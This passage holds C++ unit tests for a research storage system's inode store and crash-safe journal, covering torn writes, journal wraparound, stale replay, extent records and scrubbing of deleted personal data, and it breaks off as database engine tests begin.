                  .AppendTransaction(
                      {{x, Block(0xA1), JournalWrite::kBaseNone, {}},
                       {x + 1, Block(0xA2), JournalWrite::kBaseNone, {}},
                       {x + 2, Block(0xA3), JournalWrite::kBaseNone, {}}})
                  .ok());
  // B: 3 blocks, wraps to 0-2 and clobbers A's first record (and the
  // head of its second).
  ASSERT_TRUE(journal.AppendTransaction({{x + 3, Block(0xB1), JournalWrite::kBaseNone, {}}}).ok());

  auto writes = journal.Replay();
  ASSERT_TRUE(writes.ok()) << writes.status().ToString();
  // Regression (commit-count bug): A's commit record survived with a
  // valid CRC, but only one of its three data records did. Replaying the
  // partial set would surface a partially-applied transaction; the whole
  // of A must be discarded and only B applied.
  ASSERT_EQ(writes->size(), 1u);
  EXPECT_EQ((*writes)[0].block, x + 3);
  EXPECT_EQ((*writes)[0].data, Block(0xB1));
  EXPECT_EQ(journal.last_replay().incomplete_txns, 1u);
  EXPECT_EQ(journal.last_replay().committed_txns, 1u);
}

TEST_F(JournalTest, OversizedTransactionIsRefused) {
  Journal journal(*device_, sb_);
  const BlockIndex x = sb_.data_start;
  // 4 writes = 4*2 + 1 = 9 blocks > the 8-block region: committing this
  // would wrap over the transaction's own records mid-append.
  EXPECT_EQ(journal
                .AppendTransaction(
                    {{x, Block(1), JournalWrite::kBaseNone, {}},
                     {x + 1, Block(2), JournalWrite::kBaseNone, {}},
                     {x + 2, Block(3), JournalWrite::kBaseNone, {}},
                     {x + 3, Block(4), JournalWrite::kBaseNone, {}}})
                .code(),
            StatusCode::kResourceExhausted);
  EXPECT_EQ(journal.bytes_logged(), 0u);
}

TEST_F(JournalTest, StaleCheckpointedTxnsAreNotReplayed) {
  Journal journal(*device_, sb_);
  const BlockIndex x = sb_.data_start;
  // seq 0 writes "old" to X, seq 1 supersedes it with "new"; both were
  // checkpointed in place (watermark = 2).
  ASSERT_TRUE(journal.AppendTransaction({{x, Block(0x0D), JournalWrite::kBaseNone, {}}}).ok());
  ASSERT_TRUE(journal.AppendTransaction({{x, Block(0x9E), JournalWrite::kBaseNone, {}}}).ok());
  ASSERT_TRUE(device_->WriteBlock(x, Block(0x9E)).ok());
  sb_.journal_checkpointed_seq = 2;
  // Destroy seq 1's records (an interrupted scrub or a later wrap): only
  // the STALE seq-0 transaction survives in the region.
  const Bytes zero(512, 0);
  for (std::uint64_t b = 3; b < 6; ++b) {
    ASSERT_TRUE(device_->WriteBlock(sb_.journal_start + b, zero).ok());
  }

  auto writes = journal.Replay();
  ASSERT_TRUE(writes.ok()) << writes.status().ToString();
  // Regression (stale-replay reversion bug): re-applying the surviving
  // seq-0 record would revert X from "new" back to "old" even though
  // both transactions were already durably in place.
  EXPECT_TRUE(writes->empty());
  EXPECT_EQ(journal.last_replay().stale_txns, 1u);
  Bytes in_place;
  ASSERT_TRUE(device_->ReadBlock(x, in_place).ok());
  EXPECT_EQ(in_place, Block(0x9E));
}

// ---- extent (physiological) journal tests ----------------------------------

/// Byte-identical clone of Journal::BuildRecord for hand-crafting
/// records the encoder itself would never emit (framing-violation
/// tests need a VALID CRC over INVALID framing).
Bytes CraftRecord(const Superblock& sb, std::uint64_t seq, std::uint8_t kind,
                  std::uint64_t target, const Bytes& payload) {
  constexpr std::uint32_t kMagic = 0x4C4E524A;
  constexpr std::size_t kHeaderSize = 4 + 8 + 1 + 8 + 4;
  ByteWriter w(kHeaderSize + payload.size() + 4);
  w.PutU32(kMagic);
  w.PutU64(seq);
  w.PutU8(kind);
  w.PutU64(target);
  w.PutU32(static_cast<std::uint32_t>(payload.size()));
  w.PutRaw(ByteSpan(payload.data(), payload.size()));
  w.PutU32(Crc32(w.buffer()));
  Bytes image = w.Take();
  const std::size_t blocks =
      (kHeaderSize + payload.size() + 4 + sb.block_size - 1) / sb.block_size;
  image.resize(blocks * sb.block_size, 0);
  return image;
}

TEST_F(JournalTest, ExtentRecordLogsOnlyDirtyRanges) {
  Journal journal(*device_, sb_);
  journal.set_extent_mode(true);
  const BlockIndex x = sb_.data_start;
  // The device holds the preimage; the transaction changes 4 bytes.
  Bytes preimage = Block(0x55);
  ASSERT_TRUE(device_->WriteBlock(x, preimage).ok());
  Bytes after = preimage;
  for (std::size_t i = 100; i < 104; ++i) after[i] = 0xEE;
  ASSERT_TRUE(journal
                  .AppendTransaction(
                      {{x, after, JournalWrite::kBaseDevice, preimage}})
                  .ok());
  // A 4-byte dirty run journals one block (header + one tiny extent),
  // not the 3 blocks (2 data + commit) the whole-block format needs.
  EXPECT_EQ(journal.bytes_logged(), 512u);

  auto writes = journal.Replay();
  ASSERT_TRUE(writes.ok()) << writes.status().ToString();
  // Replay read-modify-writes the device preimage back to a full image.
  ASSERT_EQ(writes->size(), 1u);
  EXPECT_EQ((*writes)[0].block, x);
  EXPECT_EQ((*writes)[0].data, after);
  EXPECT_EQ(journal.last_replay().committed_txns, 1u);
}

TEST_F(JournalTest, MixedLegacyAndExtentRegionReplaysBoth) {
  Journal journal(*device_, sb_);
  const BlockIndex x = sb_.data_start;
  const BlockIndex y = sb_.data_start + 1;
  // Pre-upgrade whole-block transaction...
  ASSERT_TRUE(journal.AppendTransaction({{x, Block(0xA1), JournalWrite::kBaseNone, {}}}).ok());
  // ...then the store is remounted with extents on; the region now holds
  // both formats. The second txn chains on the FIRST's image of x (the
  // journal, not the device, is the base once a replayed image exists).
  journal.set_extent_mode(true);
  Bytes x2 = Block(0xA1);
  x2[7] = 0x77;
  ASSERT_TRUE(journal
                  .AppendTransaction(
                      {{x, x2, JournalWrite::kBaseDevice, Block(0xA1)},
                       {y, Block(0xB2), JournalWrite::kBaseZero, {}}})
                  .ok());

  auto writes = journal.Replay();
  ASSERT_TRUE(writes.ok()) << writes.status().ToString();
  ASSERT_EQ(writes->size(), 3u);
  EXPECT_EQ(journal.last_replay().committed_txns, 2u);
  EXPECT_EQ((*writes)[0].block, x);
  EXPECT_EQ((*writes)[0].data, Block(0xA1));
  // The extent txn's image of x chains on the legacy txn's replayed
  // image, not the (stale) device block.
  EXPECT_EQ((*writes)[1].block, x);
  EXPECT_EQ((*writes)[1].data, x2);
  EXPECT_EQ((*writes)[2].data, Block(0xB2));
  EXPECT_EQ(journal.last_replay().corrupt_records, 0u);
}

TEST_F(JournalTest, TornExtentRecordDiscardsWholeTransaction) {
  Journal journal(*device_, sb_);
  journal.set_extent_mode(true);
  const BlockIndex x = sb_.data_start;
  Bytes a = Block(0);
  a[0] = 1;
  Bytes b = Block(0);
  b[0] = 2;
  ASSERT_TRUE(journal
                  .AppendTransaction(
                      {{x, a, JournalWrite::kBaseZero, {}},
                       {x + 1, b, JournalWrite::kBaseZero, {}}})
                  .ok());
  // Tear one byte of the (single, self-committing) record: the CRC is
  // the commit, so BOTH block writes must vanish — replaying either half
  // would be the partially-applied state journaling exists to prevent.
  Bytes record;
  ASSERT_TRUE(device_->ReadBlock(sb_.journal_start, record).ok());
  record[40] ^= 0xFF;
  ASSERT_TRUE(device_->WriteBlock(sb_.journal_start, record).ok());

  auto writes = journal.Replay();
  ASSERT_TRUE(writes.ok()) << writes.status().ToString();
  EXPECT_TRUE(writes->empty());
  EXPECT_EQ(journal.last_replay().corrupt_records, 1u);
  EXPECT_EQ(journal.last_replay().committed_txns, 0u);
}

TEST_F(JournalTest, OversizedExtentIsRejectedNotApplied) {
  Journal journal(*device_, sb_);
  const BlockIndex x = sb_.data_start;
  Bytes sentinel;
  ASSERT_TRUE(device_->ReadBlock(x, sentinel).ok());
  // Hand-craft a record whose CRC is valid but whose one extent claims
  // offset 300 + len 300 > the 512-byte block: replay must refuse the
  // whole record (memcpy'ing it would run off the image) and count it
  // corrupt rather than guess.
  ByteWriter payload(32);
  payload.PutU64(x);
  payload.PutU8(JournalWrite::kBaseZero);
  payload.PutU16(1);
  payload.PutU32(300);  // offset
  payload.PutU32(300);  // len: off + len = 600 > block_size
  payload.PutRaw(ByteSpan(Bytes(300, 0xEE).data(), 300));
  const Bytes image =
      CraftRecord(sb_, /*seq=*/0, /*kind=*/3, /*target=*/1, payload.Take());
  for (std::size_t i = 0; i * sb_.block_size < image.size(); ++i) {
    ASSERT_TRUE(device_
                    ->WriteBlock(sb_.journal_start + i,
                                 Bytes(image.begin() + i * sb_.block_size,
                                       image.begin() + (i + 1) * sb_.block_size))
                    .ok());
  }
  sb_.journal_seq = 1;

  auto writes = journal.Replay();
  ASSERT_TRUE(writes.ok()) << writes.status().ToString();
  EXPECT_TRUE(writes->empty());
  EXPECT_EQ(journal.last_replay().corrupt_records, 1u);
  Bytes now;
  ASSERT_TRUE(device_->ReadBlock(x, now).ok());
  EXPECT_EQ(now, sentinel);  // the target block was never touched
}

TEST_F(JournalTest, ZeroLengthExtentIsRejected) {
  Journal journal(*device_, sb_);
  ByteWriter payload(16);
  payload.PutU64(sb_.data_start);
  payload.PutU8(JournalWrite::kBaseZero);
  payload.PutU16(1);
  payload.PutU32(0);
  payload.PutU32(0);  // len == 0: framing violation
  const Bytes image =
      CraftRecord(sb_, /*seq=*/0, /*kind=*/3, /*target=*/1, payload.Take());
  ASSERT_TRUE(device_
                  ->WriteBlock(sb_.journal_start,
                               Bytes(image.begin(), image.begin() + 512))
                  .ok());
  sb_.journal_seq = 1;

  auto writes = journal.Replay();
  ASSERT_TRUE(writes.ok()) << writes.status().ToString();
  EXPECT_TRUE(writes->empty());
  EXPECT_EQ(journal.last_replay().corrupt_records, 1u);
}

TEST_F(JournalTest, SuperblockSurvivesTornWrite) {
  Bytes block(512, 0);
  sb_.journal_seq = 7;
  sb_.EncodeInto(block);  // version 1 -> slot 1
  sb_.journal_seq = 9;
  sb_.EncodeInto(block);  // version 2 -> slot 0
  auto newest = Superblock::Decode(block);
  ASSERT_TRUE(newest.ok()) << newest.status().ToString();
  EXPECT_EQ(newest->journal_seq, 9u);

  // Tear the slot written last: Decode must fall back to the previous
  // valid image instead of refusing to mount.
  Bytes torn = block;
  torn[10] ^= 0xFF;
  auto fallback = Superblock::Decode(torn);
  ASSERT_TRUE(fallback.ok()) << fallback.status().ToString();
  EXPECT_EQ(fallback->journal_seq, 7u);

  // Both slots destroyed -> corruption.
  torn[kSuperblockSlotSize + 10] ^= 0xFF;
  EXPECT_EQ(Superblock::Decode(torn).status().code(),
            StatusCode::kCorruption);
}

}  // namespace
}  // namespace rgpdos::inodefs
