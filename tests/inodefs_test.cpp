// InodeStore and journal tests: format/mount, inode lifecycle, file IO
// across direct/indirect blocks, truncation and scrubbing, journal
// crash-recovery, and the leak semantics the Fig-2 experiment relies on.
#include <gtest/gtest.h>

#include "blockdev/block_device.hpp"
#include "inodefs/inode_store.hpp"

namespace rgpdos::inodefs {
namespace {

class InodeStoreTest : public ::testing::Test {
 protected:
  void SetUp() override {
    device_ = std::make_unique<blockdev::MemBlockDevice>(512, 2048);
    InodeStore::Options options;
    options.inode_count = 64;
    options.journal_blocks = 128;
    auto store = InodeStore::Format(device_.get(), options, &clock_);
    ASSERT_TRUE(store.ok()) << store.status().ToString();
    store_ = std::move(store).value();
  }

  Bytes Pattern(std::size_t n, std::uint8_t seed = 1) {
    Bytes out(n);
    for (std::size_t i = 0; i < n; ++i) {
      out[i] = static_cast<std::uint8_t>(seed + i * 7);
    }
    return out;
  }

  SimClock clock_{1000};
  std::unique_ptr<blockdev::MemBlockDevice> device_;
  std::unique_ptr<InodeStore> store_;
};

TEST_F(InodeStoreTest, FormatLayoutIsSane) {
  const Superblock& sb = store_->superblock();
  EXPECT_EQ(sb.magic, kSuperblockMagic);
  EXPECT_EQ(sb.block_size, 512u);
  EXPECT_GT(sb.data_start, sb.journal_start);
  EXPECT_GT(sb.journal_start, sb.inode_table_start);
  EXPECT_GT(sb.inode_table_start, sb.bitmap_start);
  EXPECT_GT(store_->FreeBlockCount(), 0u);
}

TEST_F(InodeStoreTest, PlanRejectsBadGeometry) {
  EXPECT_FALSE(Superblock::Plan(100, 1024, 64, 16).ok());  // not pow2
  EXPECT_FALSE(Superblock::Plan(512, 10, 64, 16).ok());    // too small
  EXPECT_FALSE(Superblock::Plan(512, 1024, 0, 16).ok());   // no inodes
}

TEST_F(InodeStoreTest, InodeAllocFreeCycle) {
  auto id = store_->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  auto inode = store_->GetInode(*id);
  ASSERT_TRUE(inode.ok());
  EXPECT_EQ(inode->kind, InodeKind::kFile);
  EXPECT_EQ(inode->size, 0u);
  EXPECT_EQ(inode->ctime, clock_.Now());

  ASSERT_TRUE(store_->FreeInode(*id, false).ok());
  auto freed = store_->GetInode(*id);
  ASSERT_TRUE(freed.ok());
  EXPECT_EQ(freed->kind, InodeKind::kFree);
  // Generation bumps on reuse so stale references are detectable.
  auto id2 = store_->AllocInode(InodeKind::kDirectory);
  ASSERT_TRUE(id2.ok());
  EXPECT_EQ(*id2, *id);  // first-fit reuses the slot
  EXPECT_GT(store_->GetInode(*id2)->generation, inode->generation);
}

TEST_F(InodeStoreTest, InodeTableExhaustion) {
  std::vector<InodeId> ids;
  for (;;) {
    auto id = store_->AllocInode(InodeKind::kFile);
    if (!id.ok()) {
      EXPECT_EQ(id.status().code(), StatusCode::kResourceExhausted);
      break;
    }
    ids.push_back(*id);
  }
  EXPECT_EQ(ids.size(), 63u);  // inode 0 reserved
}

TEST_F(InodeStoreTest, WriteReadSmallFile) {
  auto id = store_->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  const Bytes data = ToBytes("hello inode world");
  ASSERT_TRUE(store_->WriteAt(*id, 0, data).ok());
  EXPECT_EQ(*store_->ReadAll(*id), data);
  EXPECT_EQ(store_->GetInode(*id)->size, data.size());
}

TEST_F(InodeStoreTest, WriteAcrossDirectAndIndirectBlocks) {
  auto id = store_->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  // 12 direct blocks of 512 = 6144; write 20 KiB to force the indirect.
  const Bytes data = Pattern(20 * 1024);
  ASSERT_TRUE(store_->WriteAt(*id, 0, data).ok());
  EXPECT_EQ(*store_->ReadAll(*id), data);
  // Partial reads at unaligned offsets.
  EXPECT_EQ(*store_->ReadAt(*id, 6000, 1000),
            Bytes(data.begin() + 6000, data.begin() + 7000));
}

TEST_F(InodeStoreTest, SparseFileReadsZerosInHoles) {
  auto id = store_->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  ASSERT_TRUE(store_->WriteAt(*id, 5000, ToBytes("tail")).ok());
  const Bytes content = *store_->ReadAll(*id);
  EXPECT_EQ(content.size(), 5004u);
  for (std::size_t i = 0; i < 5000; ++i) EXPECT_EQ(content[i], 0) << i;
}

TEST_F(InodeStoreTest, OverwriteInPlace) {
  auto id = store_->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  ASSERT_TRUE(store_->WriteAt(*id, 0, ToBytes("aaaaaaaaaa")).ok());
  ASSERT_TRUE(store_->WriteAt(*id, 3, ToBytes("XYZ")).ok());
  EXPECT_EQ(ToString(*store_->ReadAll(*id)), "aaaXYZaaaa");
}

TEST_F(InodeStoreTest, WriteAllReplacesContent) {
  auto id = store_->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  ASSERT_TRUE(store_->WriteAll(*id, Pattern(3000)).ok());
  ASSERT_TRUE(store_->WriteAll(*id, ToBytes("short")).ok());
  EXPECT_EQ(ToString(*store_->ReadAll(*id)), "short");
}

TEST_F(InodeStoreTest, TruncateFreesBlocks) {
  auto id = store_->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  const std::uint64_t before = store_->FreeBlockCount();
  ASSERT_TRUE(store_->WriteAt(*id, 0, Pattern(10 * 1024)).ok());
  EXPECT_LT(store_->FreeBlockCount(), before);
  ASSERT_TRUE(store_->Truncate(*id, 0, false).ok());
  EXPECT_EQ(store_->FreeBlockCount(), before);
  EXPECT_EQ(store_->GetInode(*id)->size, 0u);
}

TEST_F(InodeStoreTest, PlainTruncateLeaksTheFreedBytes) {
  // ext4-like behaviour: freed blocks keep their contents.
  auto id = store_->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  const Bytes secret = ToBytes("LEAKY_PLAINTEXT_PD");
  ASSERT_TRUE(store_->WriteAt(*id, 0, secret).ok());
  ASSERT_TRUE(store_->Truncate(*id, 0, /*scrub=*/false).ok());
  EXPECT_GT(blockdev::CountBlocksContaining(*device_, secret), 0u);
}

TEST_F(InodeStoreTest, ScrubbedTruncateThenJournalScrubDestroysAllBytes) {
  auto id = store_->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  const Bytes secret = ToBytes("SCRUBBED_PLAINTEXT_PD");
  ASSERT_TRUE(store_->WriteAt(*id, 0, secret).ok());
  // Scrubbed truncate zeros the data region, but the journal still holds
  // the original write...
  ASSERT_TRUE(store_->Truncate(*id, 0, /*scrub=*/true).ok());
  EXPECT_GT(blockdev::CountBlocksContaining(*device_, secret), 0u);
  // ...until the journal itself is scrubbed (the rgpdOS erasure path).
  ASSERT_TRUE(store_->ScrubJournal().ok());
  EXPECT_EQ(blockdev::CountBlocksContaining(*device_, secret), 0u);
}

TEST_F(InodeStoreTest, MountSeesPersistedState) {
  auto id = store_->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  ASSERT_TRUE(store_->WriteAt(*id, 0, ToBytes("durable")).ok());
  ASSERT_TRUE(store_->Sync().ok());
  store_.reset();

  auto mounted = InodeStore::Mount(device_.get(), &clock_);
  ASSERT_TRUE(mounted.ok()) << mounted.status().ToString();
  EXPECT_EQ(ToString(*(*mounted)->ReadAll(*id)), "durable");
}

TEST_F(InodeStoreTest, MountRejectsUnformattedDevice) {
  blockdev::MemBlockDevice fresh(512, 64);
  EXPECT_EQ(InodeStore::Mount(&fresh, &clock_).status().code(),
            StatusCode::kCorruption);
}

TEST_F(InodeStoreTest, CrashBeforeCheckpointIsRecoveredFromJournal) {
  auto id = store_->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  ASSERT_TRUE(store_->Sync().ok());

  // Crash mode: the write reaches the journal but never the data region.
  store_->SetCrashBeforeCheckpoint(true);
  const Bytes data = ToBytes("committed but not checkpointed");
  ASSERT_TRUE(store_->WriteAt(*id, 0, data).ok());
  store_.reset();  // power loss

  auto recovered = InodeStore::Mount(device_.get(), &clock_);
  ASSERT_TRUE(recovered.ok()) << recovered.status().ToString();
  EXPECT_EQ(*(*recovered)->ReadAll(*id), data);
}

TEST_F(InodeStoreTest, TornTransactionIsDiscardedOnMount) {
  auto id = store_->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  ASSERT_TRUE(store_->WriteAt(*id, 0, ToBytes("stable")).ok());
  ASSERT_TRUE(store_->Sync().ok());

  // Corrupt the journal tail: overwrite the last journal blocks with a
  // half-written record (valid magic, wrong CRC).
  const Superblock& sb = store_->superblock();
  Bytes garbage(sb.block_size, 0);
  garbage[0] = 0x4A;  // 'J'
  garbage[1] = 0x52;  // 'R'
  garbage[2] = 0x4E;  // 'N'
  garbage[3] = 0x4C;  // 'L'
  ASSERT_TRUE(
      device_->WriteBlock(sb.journal_start + sb.journal_blocks - 1, garbage)
          .ok());
  store_.reset();

  auto mounted = InodeStore::Mount(device_.get(), &clock_);
  ASSERT_TRUE(mounted.ok()) << mounted.status().ToString();
  EXPECT_EQ(ToString(*(*mounted)->ReadAll(*id)), "stable");
}

TEST_F(InodeStoreTest, JournalDisabledStillWritesInPlace) {
  blockdev::MemBlockDevice device(512, 1024);
  InodeStore::Options options;
  options.inode_count = 16;
  options.journal_blocks = 8;
  options.journal_enabled = false;
  auto store = InodeStore::Format(&device, options, &clock_);
  ASSERT_TRUE(store.ok());
  auto id = (*store)->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  ASSERT_TRUE((*store)->WriteAt(*id, 0, ToBytes("no journal")).ok());
  EXPECT_EQ(ToString(*(*store)->ReadAll(*id)), "no journal");
  EXPECT_EQ((*store)->journal().bytes_logged(), 0u);
}

TEST_F(InodeStoreTest, MaxFileSizeIsEnforced) {
  auto id = store_->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  const std::uint64_t ppb = 512 / 8;
  const std::uint64_t max = store_->MaxFileSize();
  EXPECT_EQ(max, (12 + ppb + ppb * ppb) * 512u);
  EXPECT_EQ(store_->WriteAt(*id, max, ToBytes("x")).code(),
            StatusCode::kOutOfRange);
}

TEST_F(InodeStoreTest, DoubleIndirectReadWriteAndReclaim) {
  // A file deep into the double-indirect region: write a few scattered
  // extents beyond direct+single capacity, read them back, then truncate
  // to zero and verify every block (incl. the indirect spine) returns.
  auto id = store_->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  const std::uint64_t ppb = 512 / 8;
  const std::uint64_t single_capacity = (12 + ppb) * 512;
  const std::uint64_t free_before = store_->FreeBlockCount();

  const Bytes tail = ToBytes("DEEP_DOUBLE_INDIRECT_DATA");
  // Offsets straddling the single/double boundary and two inner blocks.
  const std::uint64_t offsets[] = {single_capacity - 10,
                                   single_capacity + 40,
                                   single_capacity + 512 * ppb + 7};
  for (std::uint64_t offset : offsets) {
    ASSERT_TRUE(store_->WriteAt(id.value(), offset, tail).ok()) << offset;
  }
  for (std::uint64_t offset : offsets) {
    auto content = store_->ReadAt(*id, offset, tail.size());
    ASSERT_TRUE(content.ok()) << offset;
    EXPECT_EQ(*content, tail) << offset;
  }
  // Holes in between read as zeros.
  auto hole = store_->ReadAt(*id, single_capacity + 512 * 3, 64);
  ASSERT_TRUE(hole.ok());
  EXPECT_EQ(*hole, Bytes(64, 0));

  ASSERT_TRUE(store_->Truncate(*id, 0, /*scrub=*/false).ok());
  EXPECT_EQ(store_->FreeBlockCount(), free_before);
  EXPECT_EQ(store_->GetInode(*id)->indirect, 0u);
  EXPECT_EQ(store_->GetInode(*id)->double_indirect, 0u);
}

TEST_F(InodeStoreTest, TruncatePartialTailZeroesStaleBytes) {
  // Shrink into the middle of a block, then extend again: the regrown
  // range must read zeros, not the pre-truncate bytes.
  auto id = store_->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  ASSERT_TRUE(store_->WriteAt(*id, 0, Bytes(400, 0xEE)).ok());
  ASSERT_TRUE(store_->Truncate(*id, 100, /*scrub=*/false).ok());
  ASSERT_TRUE(store_->WriteAt(*id, 300, ToBytes("x")).ok());
  auto content = store_->ReadAt(*id, 100, 200);
  ASSERT_TRUE(content.ok());
  EXPECT_EQ(*content, Bytes(200, 0));
}

TEST_F(InodeStoreTest, JournalBytesLoggedGrows) {
  auto id = store_->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  const std::uint64_t before = store_->journal().bytes_logged();
  ASSERT_TRUE(store_->WriteAt(*id, 0, Pattern(2000)).ok());
  EXPECT_GT(store_->journal().bytes_logged(), before);
}

TEST_F(InodeStoreTest, ReadPastEndFails) {
  auto id = store_->AllocInode(InodeKind::kFile);
  ASSERT_TRUE(id.ok());
  ASSERT_TRUE(store_->WriteAt(*id, 0, ToBytes("abc")).ok());
  EXPECT_EQ(store_->ReadAt(*id, 10, 5).status().code(),
            StatusCode::kOutOfRange);
  // Reading exactly to the end is fine and clamps length.
  EXPECT_EQ(ToString(*store_->ReadAt(*id, 1, 100)), "bc");
}

TEST_F(InodeStoreTest, FreeInodeChecksRange) {
  EXPECT_EQ(store_->GetInode(0).status().code(),
            StatusCode::kInvalidArgument);
  EXPECT_EQ(store_->GetInode(9999).status().code(),
            StatusCode::kInvalidArgument);
}

// ---- journal regression tests ----------------------------------------------
//
// Direct Journal-level scenarios with a tiny 8-block region where the
// geometry is exact: a 512-byte-payload data record is 2 blocks, a
// commit record 1 block, so a one-write transaction occupies 3 blocks.

class JournalTest : public ::testing::Test {
 protected:
  void SetUp() override {
    device_ = std::make_unique<blockdev::MemBlockDevice>(512, 2048);
    auto sb = Superblock::Plan(512, 2048, 16, 8);
    ASSERT_TRUE(sb.ok()) << sb.status().ToString();
    sb_ = *sb;
  }

  /// A full-block payload with a distinctive fill byte.
  Bytes Block(std::uint8_t fill) { return Bytes(512, fill); }

  std::unique_ptr<blockdev::MemBlockDevice> device_;
  Superblock sb_;
};

TEST_F(JournalTest, WrapResumeHeadTracksHighestSeqCommit) {
  Journal journal(*device_, sb_);
  const BlockIndex x = sb_.data_start;
  const BlockIndex y = sb_.data_start + 1;
  // A: blocks 0-2, B: blocks 3-5. C's data record fits exactly in 6-7,
  // but its commit wraps to block 0, clobbering A's data record.
  ASSERT_TRUE(journal.AppendTransaction({{x, Block(0xA1)}}).ok());
  ASSERT_TRUE(journal.AppendTransaction({{y, Block(0xB1)}}).ok());
  ASSERT_TRUE(journal.AppendTransaction({{x, Block(0xC1)}}).ok());
  ASSERT_EQ(sb_.journal_head, 1u);

  auto writes = journal.Replay();
  ASSERT_TRUE(writes.ok()) << writes.status().ToString();
  // A's commit survived (block 2) but its data record did not: discarded
  // as incomplete. B and C replay in seq order.
  ASSERT_EQ(writes->size(), 2u);
  EXPECT_EQ((*writes)[0].block, y);
  EXPECT_EQ((*writes)[0].data, Block(0xB1));
  EXPECT_EQ((*writes)[1].block, x);
  EXPECT_EQ((*writes)[1].data, Block(0xC1));
  EXPECT_EQ(journal.last_replay().incomplete_txns, 1u);
  // Regression (resume-head bug): the head must resume after C — the
  // HIGHEST-SEQ commit, at region block 1 — not after B, whose commit
  // sits at the higher block offset 6. Resuming at 6 would let the next
  // append overwrite C while B's stale record stayed replayable.
  EXPECT_EQ(sb_.journal_head, 1u);
  EXPECT_EQ(sb_.journal_seq, 3u);
}

TEST_F(JournalTest, CommittedTxnWithMissingRecordsIsDiscarded) {
  Journal journal(*device_, sb_);
  const BlockIndex x = sb_.data_start;
  // A: three data records + commit = 7 blocks (0-6).
  ASSERT_TRUE(journal
                  .AppendTransaction({{x, Block(0xA1)},
                                      {x + 1, Block(0xA2)},
                                      {x + 2, Block(0xA3)}})
                  .ok());
  // B: 3 blocks, wraps to 0-2 and clobbers A's first record (and the
  // head of its second).
  ASSERT_TRUE(journal.AppendTransaction({{x + 3, Block(0xB1)}}).ok());

  auto writes = journal.Replay();
  ASSERT_TRUE(writes.ok()) << writes.status().ToString();
  // Regression (commit-count bug): A's commit record survived with a
  // valid CRC, but only one of its three data records did. Replaying the
  // partial set would surface a partially-applied transaction; the whole
  // of A must be discarded and only B applied.
  ASSERT_EQ(writes->size(), 1u);
  EXPECT_EQ((*writes)[0].block, x + 3);
  EXPECT_EQ((*writes)[0].data, Block(0xB1));
  EXPECT_EQ(journal.last_replay().incomplete_txns, 1u);
  EXPECT_EQ(journal.last_replay().committed_txns, 1u);
}

TEST_F(JournalTest, OversizedTransactionIsRefused) {
  Journal journal(*device_, sb_);
  const BlockIndex x = sb_.data_start;
  // 4 writes = 4*2 + 1 = 9 blocks > the 8-block region: committing this
  // would wrap over the transaction's own records mid-append.
  EXPECT_EQ(journal
                .AppendTransaction({{x, Block(1)},
                                    {x + 1, Block(2)},
                                    {x + 2, Block(3)},
                                    {x + 3, Block(4)}})
                .code(),
            StatusCode::kResourceExhausted);
  EXPECT_EQ(journal.bytes_logged(), 0u);
}

TEST_F(JournalTest, StaleCheckpointedTxnsAreNotReplayed) {
  Journal journal(*device_, sb_);
  const BlockIndex x = sb_.data_start;
  // seq 0 writes "old" to X, seq 1 supersedes it with "new"; both were
  // checkpointed in place (watermark = 2).
  ASSERT_TRUE(journal.AppendTransaction({{x, Block(0x0D)}}).ok());
  ASSERT_TRUE(journal.AppendTransaction({{x, Block(0x9E)}}).ok());
  ASSERT_TRUE(device_->WriteBlock(x, Block(0x9E)).ok());
  sb_.journal_checkpointed_seq = 2;
  // Destroy seq 1's records (an interrupted scrub or a later wrap): only
  // the STALE seq-0 transaction survives in the region.
  const Bytes zero(512, 0);
  for (std::uint64_t b = 3; b < 6; ++b) {
    ASSERT_TRUE(device_->WriteBlock(sb_.journal_start + b, zero).ok());
  }

  auto writes = journal.Replay();
  ASSERT_TRUE(writes.ok()) << writes.status().ToString();
  // Regression (stale-replay reversion bug): re-applying the surviving
  // seq-0 record would revert X from "new" back to "old" even though
  // both transactions were already durably in place.
  EXPECT_TRUE(writes->empty());
  EXPECT_EQ(journal.last_replay().stale_txns, 1u);
  Bytes in_place;
  ASSERT_TRUE(device_->ReadBlock(x, in_place).ok());
  EXPECT_EQ(in_place, Block(0x9E));
}

TEST_F(JournalTest, SuperblockSurvivesTornWrite) {
  Bytes block(512, 0);
  sb_.journal_seq = 7;
  sb_.EncodeInto(block);  // version 1 -> slot 1
  sb_.journal_seq = 9;
  sb_.EncodeInto(block);  // version 2 -> slot 0
  auto newest = Superblock::Decode(block);
  ASSERT_TRUE(newest.ok()) << newest.status().ToString();
  EXPECT_EQ(newest->journal_seq, 9u);

  // Tear the slot written last: Decode must fall back to the previous
  // valid image instead of refusing to mount.
  Bytes torn = block;
  torn[10] ^= 0xFF;
  auto fallback = Superblock::Decode(torn);
  ASSERT_TRUE(fallback.ok()) << fallback.status().ToString();
  EXPECT_EQ(fallback->journal_seq, 7u);

  // Both slots destroyed -> corruption.
  torn[kSuperblockSlotSize + 10] ^= 0xFF;
  EXPECT_EQ(Superblock::Decode(torn).status().code(),
            StatusCode::kCorruption);
}

}  // namespace
}  // namespace rgpdos::inodefs
