// DB engine tests: Value semantics, Schema/row codec, the B+tree
// (including randomized property sweeps against std::map), the table
// engine and the catalog.
#include <gtest/gtest.h>

#include <map>

#include "blockdev/block_device.hpp"
#include "common/rng.hpp"
#include "db/btree.hpp"
#include "db/catalog.hpp"
#include "db/table.hpp"

namespace rgpdos::db {
namespace {

// ---- Value ---------------------------------------------------------------------

TEST(ValueTest, TypesAndAccessors) {
  EXPECT_TRUE(Value().is_null());
